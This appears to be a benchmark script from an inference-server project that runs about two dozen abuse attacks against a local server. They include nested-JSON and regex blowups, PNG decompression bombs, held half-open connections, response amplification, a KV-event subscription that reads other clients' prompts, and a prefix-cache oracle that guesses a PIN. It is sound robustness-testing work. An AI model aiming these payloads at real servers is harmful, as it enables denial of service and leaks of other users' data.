"""Attacks on a real server (oversized, deeply nested and amplifying requests), one at a time: how
long /health stalls while each is processed, what the attack gets back, and the server's RSS
before, at its peak and after.

    .venv/bin/python benchmarks/server_abuse.py [--only NAME ...] [--scale S]

Each attack runs against a fresh `blockdiff serve` of the demo checkpoint (the image attacks: a
tiny vision checkpoint built here). A thread of this process probes /health every 10 ms
(tests/server_process.HealthProbe); the report gives the median /health latency of the idle
server (30 probes just before) beside the worst one while the attack ran, and their ratio. `--scale` shrinks the attacks (1 = the sizes
as first reported, where they fit under the default 16 MiB body limit). Run it from a checkout of the
code to measure; the server is started from `blockdiff` as this interpreter imports it.
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import os
import socket
import sys
import tempfile
import threading
import time

import httpx

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests"))
from server_process import HealthProbe, ServerProcess, rss_mib  # noqa: E402  (the test suite's)


def post(server: ServerProcess, path: str, body: bytes) -> str:
    try:
        r = httpx.post(server.url + path, content=body, headers={"Content-Type": "application/json"}, timeout=600)
    except httpx.HTTPError as e:
        return type(e).__name__
    try:
        code = r.json()["error"].get("code") if r.status_code != 200 else None
    except (ValueError, KeyError, TypeError, AttributeError):
        code = "not OpenAI-shaped"
    return f"{r.status_code}" + (f" {code}" if code else "")


# ---- the attacks: each returns what the attacker got -----------------------------------------------
def _tool_chat(tool_messages: int) -> list[dict]:
    call = {"id": "c0", "type": "function", "function": {"name": "f", "arguments": "{}"}}
    return ([{"role": "user", "content": "hi"}, {"role": "assistant", "tool_calls": [call]}]
            + [{"role": "tool", "tool_call_id": "c0", "content": "x"}] * tool_messages)


def tokenize_tool_messages(server, scale):
    body = json.dumps({"messages": _tool_chat(int(4094 * scale))}).encode()
    return post(server, "/tokenize", body)


def chat_tool_messages(server, scale):
    body = json.dumps({"messages": _tool_chat(int(2000 * scale)), "max_tokens": 4}).encode()
    return post(server, "/v1/chat/completions", body)


def long_tool_description(server, scale):
    tool = {"type": "function", "function": {"name": "f", "description": "x" * int(15_000_000 * scale)}}
    body = json.dumps({"messages": [{"role": "user", "content": "hi"}], "tools": [tool], "max_tokens": 4}).encode()
    return post(server, "/v1/chat/completions", body)


def many_tool_descriptions(server, scale):
    tools = [{"type": "function", "function": {"name": f"f{i}", "description": "x" * int(115_000 * scale)}}
             for i in range(128)]
    body = json.dumps({"messages": [{"role": "user", "content": "hi"}], "tools": tools, "max_tokens": 4}).encode()
    return post(server, "/v1/chat/completions", body)


def _with_arguments(arguments: str) -> bytes:
    call = {"id": "c0", "type": "function", "function": {"name": "f", "arguments": arguments}}
    return json.dumps({"messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "tool_calls": [call]},
                                    {"role": "tool", "tool_call_id": "c0", "content": "ok"}], "max_tokens": 4}).encode()


def long_arguments(server, scale):
    return post(server, "/v1/chat/completions", _with_arguments(json.dumps({"a": "x" * int(15_000_000 * scale)})))


def object_arguments(server, scale):
    arguments = json.dumps({"a": [{}] * int(1_500_000 * scale)}, separators=(",", ":"))
    return post(server, "/v1/chat/completions", _with_arguments(arguments))


def deep_arguments(server, scale):
    return post(server, "/v1/chat/completions", _with_arguments("[" * 200 + "]" * 200))


def n_times_draft(server, scale):
    body = json.dumps({"prompt": "hi", "max_tokens": 4, "n": 32, "draft": [5] * int(2_000_000 * scale)},
                      separators=(",", ":")).encode()
    return post(server, "/v1/completions", body)


def unfinished_bodies(server, scale):
    """1,100 connections, 5 ms apart, each sending headers of a 100 kB body and then only '{'; then a
    request of the attacker's own and one /health while they are held."""
    held = []
    for _ in range(int(1100 * scale)):
        try:
            s = socket.create_connection(("127.0.0.1", server.port), timeout=5)
            s.sendall(b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                      b"Content-Length: 100000\r\n\r\n{")
            held.append(s)
        except OSError:
            pass
        time.sleep(0.005)
    try:
        r = httpx.post(server.url + "/v1/completions", json={"prompt": "sort: 2 1", "max_tokens": 4}, timeout=60)
        health = httpx.get(server.url + "/health", timeout=60)
        return f"completion {r.status_code}, /health {health.status_code} with {len(held)} sockets held"
    except httpx.HTTPError as e:
        return f"{type(e).__name__} with {len(held)} sockets held"
    finally:
        for s in held:
            s.close()


def _bomb_png(side: int) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGBA", (side, side)).save(buf, format="PNG")
    return buf.getvalue()


def image_bombs(server, scale):
    """Six concurrent requests of four 6300x6300 RGBA PNGs each."""
    url = "data:image/png;base64," + base64.b64encode(_bomb_png(int(6300 * scale ** 0.5))).decode()
    body = json.dumps({"messages": [{"role": "user", "content": [{"type": "text", "text": "hi"}] + [
        {"type": "image_url", "image_url": {"url": url}}] * 4}], "max_tokens": 4}).encode()
    results: list[str] = [""] * 6
    threads = [threading.Thread(target=lambda i=i: results.__setitem__(i, post(server, "/v1/chat/completions", body)))
               for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return ", ".join(sorted(set(results)))


def _nested(width: int, depth: int) -> dict:
    if depth == 0:
        return {"type": "string"}
    return {"type": "object", "properties": {f"p{i}": _nested(width, depth - 1) for i in range(width)}}


def _chat_body(**fields) -> bytes:
    return json.dumps({"messages": [{"role": "user", "content": "hi"}], "max_tokens": 16, **fields}).encode()


def exploding_schema(server, scale):  # 6 optional properties x 5 levels, 275 KB
    fmt = {"type": "json_schema", "json_schema": {"name": "x", "schema": _nested(6, 5)}}
    return post(server, "/v1/chat/completions", _chat_body(response_format=fmt))


def exploding_regex(server, scale):  # the 27-byte regex that reached 6 GB
    return post(server, "/v1/chat/completions", _chat_body(structured_outputs={"regex": r"(\p{L}{1,1000}){1,1000}"}))


def schema_text(server, scale):  # a schema as JSON text escapes the body's JSON limits
    text = json.dumps(_nested(7, 5))
    return post(server, "/v1/chat/completions", _chat_body(structured_outputs={"json": text}))


def forced_tool(server, scale):  # 7 x 5 (572 KB) parameters under a forced tool_choice
    tool = {"type": "function", "function": {"name": "f", "parameters": _nested(7, 5)}}
    return post(server, "/v1/chat/completions", _chat_body(tools=[tool], tool_choice="required"))


def abandoned_builds(server, scale):  # 8 slow distinct regexes whose clients hang up after 2 s
    def abandon(i: int) -> None:
        try:
            httpx.post(server.url + "/v1/chat/completions", content=_chat_body(
                structured_outputs={"regex": f"(a|b)*a(a|b){{14}}(c{{{i}}})?"}), timeout=2,
                headers={"Content-Type": "application/json"})
        except httpx.HTTPError:
            pass

    threads = [threading.Thread(target=abandon, args=(i + 1,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    t0 = time.perf_counter()
    got = post(server, "/v1/chat/completions", _chat_body(structured_outputs={"regex": "(yes|no)"}))
    return f"a new schema after them: {got} in {time.perf_counter() - t0:.1f} s"


def deep_constraint_text(server, scale):  # constraint JSON text nested 2,000 deep
    return post(server, "/v1/chat/completions", _chat_body(structured_outputs={"json": '{"items":' * 2000 + "{}"
                                                                                       + "}" * 2000}))


def deep_responses_arguments(server, scale):  # Responses function_call.arguments "[" * 100000
    call = {"type": "function_call", "call_id": "c1", "name": "f", "arguments": "[" * int(100_000 * max(scale, 0.01))}
    return post(server, "/v1/responses", json.dumps({"input": [{"role": "user", "content": "hi"}, call]}).encode())


def empty_enum(server, scale):  # a JSON schema whose enum allows nothing
    fmt = {"type": "json_schema", "json_schema": {"name": "x", "schema": {"enum": []}}}
    return post(server, "/v1/chat/completions", _chat_body(response_format=fmt))


def models_path(server, scale):  # /v1/models named the checkpoint's absolute path
    models = httpx.get(server.url + "/v1/models", timeout=60).json()["data"]
    shown = [value for m in models for value in (m["id"], m.get("root")) if isinstance(value, str)]
    return "absolute path shown" if any(os.path.isabs(v) for v in shown) else f"no path: {shown}"


def nan_arguments(server, scale):  # Responses tool-call arguments of NaN
    call = {"type": "function_call", "call_id": "c1", "name": "f", "arguments": '{"x": NaN}'}
    return post(server, "/v1/responses", json.dumps({"input": [{"role": "user", "content": "hi"}, call]}).encode())


def long_choice(server, scale):  # a choice of 2,048 strings of 120 characters
    import random
    import string

    rng = random.Random(0)
    choice = ["".join(rng.choice(string.ascii_lowercase) for _ in range(120)) for _ in range(int(2048 * scale))]
    return post(server, "/v1/chat/completions", _chat_body(structured_outputs={"choice": choice}, max_tokens=128,
                                                           max_denoising_steps=2))


def kv_events_from_outside(server, scale):  # another host subscribes to every client's prompts
    import psutil
    import zmq

    outside = sorted({a.address for addrs in psutil.net_if_addrs().values() for a in addrs
                      if a.family == socket.AF_INET and not a.address.startswith("127.")})
    if not outside:
        return "no address but the loopback's here"
    sub = zmq.Context.instance().socket(zmq.SUB)
    sub.connect(f"tcp://{outside[0]}:5557")
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    time.sleep(0.5)
    post(server, "/v1/completions", json.dumps({"prompt": "my pin is 4821 " * 4, "max_tokens": 4}).encode())
    got = 0
    while sub.poll(1000):
        sub.recv_multipart()
        got += 1
    sub.close(linger=0)
    return f"{got} event batches read from {outside[0]}"


def chained_responses(server, scale):  # 45 chained turns of 15 MiB (a reasoning summary, never tokenized)
    summary = {"type": "reasoning", "id": "rs_1", "summary": [{"type": "summary_text", "text": "z" * int(15 * 2**20 * scale)}]}
    previous, codes = None, []
    for _ in range(45):
        body = {"model": "demo", "input": [summary, {"role": "user", "content": "upper: abc"}], "max_output_tokens": 4,
                "previous_response_id": previous}
        r = httpx.post(server.url + "/v1/responses", json=body, timeout=600)
        codes.append(r.status_code)
        previous = r.json().get("id") if r.status_code == 200 else None
    return " ".join(f"{c}x{codes.count(c)}" for c in sorted(set(codes))) + f"; RSS now {rss_mib(server.proc.pid):.0f} MiB"


def scoring_amplified(server, scale):  # 4.25 KB asking for ~70 MB (echo, logprobs 20, n 128)
    ids = [10 + i % 90 for i in range(int(1023 * scale))]
    body = json.dumps({"prompt": ids, "echo": True, "logprobs": 20, "max_tokens": 1, "n": 128}).encode()
    t0 = time.perf_counter()
    r = httpx.post(server.url + "/v1/completions", content=body, headers={"Content-Type": "application/json"}, timeout=600)
    return f"{r.status_code}, {len(r.content) / 2**20:.1f} MiB in {time.perf_counter() - t0:.1f} s"


def prefix_cache_oracle(server, scale):  # another client guesses a PIN through cached_tokens
    secret = "the vault code is 4821 and it opens the door under the old oak tree by the river " * 2

    def cached(source: str, prompt: str) -> int:
        with httpx.Client(transport=httpx.HTTPTransport(local_address=source), timeout=60) as c:
            r = c.post(server.url + "/v1/completions", json={"prompt": prompt, "max_tokens": 2})
        return r.json()["usage"]["prompt_tokens_details"]["cached_tokens"]

    cached("127.0.0.1", secret)
    guesses = {pin: cached(f"127.0.0.{2 + i}", secret.replace("4821", pin)) for i, pin in enumerate(("1234", "4821"))}
    return "cached_tokens by guess: " + ", ".join(f"{pin}: {n}" for pin, n in guesses.items())


TEXT_ATTACKS = {f.__name__: f for f in (tokenize_tool_messages, chat_tool_messages, long_tool_description,
                                        many_tool_descriptions, long_arguments, object_arguments, deep_arguments,
                                        n_times_draft, unfinished_bodies, exploding_schema, exploding_regex,
                                        schema_text, forced_tool, abandoned_builds, deep_constraint_text,
                                        deep_responses_arguments, empty_enum, models_path, nan_arguments,
                                        long_choice, kv_events_from_outside,
                                        chained_responses, scoring_amplified, prefix_cache_oracle)}
# Server flags an attack needs beyond the defaults
ATTACK_FLAGS = {"kv_events_from_outside": ["--kv-events-config", '{"enable_kv_cache_events": true}']}
IMAGE_ATTACKS = {f.__name__: f for f in (image_bombs,)}


def run_one(name: str, attack, model: str | None, args: list[str], scale: float, tmp: str) -> None:
    server = ServerProcess(model, *args, log_path=os.path.join(tmp, f"{name}.log"), max_open_files=1024)
    try:
        before = rss_mib(server.proc.pid)
        t0 = time.perf_counter()
        with HealthProbe(server) as probe:
            got = attack(server, scale)
        seconds = time.perf_counter() - t0
        time.sleep(1)
        after = rss_mib(server.proc.pid)
        good = post(server, "/v1/completions", json.dumps({"prompt": "sort: 2 1", "max_tokens": 4}).encode())
        print(f"{name:24} {seconds:7.1f} s  got {got}; {probe} {probe.statuses}; RSS {before:.0f} -> peak "
              f"{probe.peak_rss:.0f} -> {after:.0f} MiB; then a completion: {good}", flush=True)
    finally:
        server.close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", nargs="+", choices=[*TEXT_ATTACKS, *IMAGE_ATTACKS])
    parser.add_argument("--scale", type=float, default=1.0)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        for name, attack in TEXT_ATTACKS.items():
            if not args.only or name in args.only:
                run_one(name, attack, None, ATTACK_FLAGS.get(name, []), args.scale, tmp)
        images = [name for name in IMAGE_ATTACKS if not args.only or name in args.only]
        if images:
            from blockdiff.model.tiny import make_tiny_model

            model = make_tiny_model(os.path.join(tmp, "vision"), vocab_size=301, canvas_length=8, sliding_window=6,
                                    seed=3, vision=True)
            for name in images:
                run_one(name, IMAGE_ATTACKS[name], model, ["--max-model-len", "512", "--max-denoising-steps", "4"],
                        args.scale, tmp)


if __name__ == "__main__":
    main()
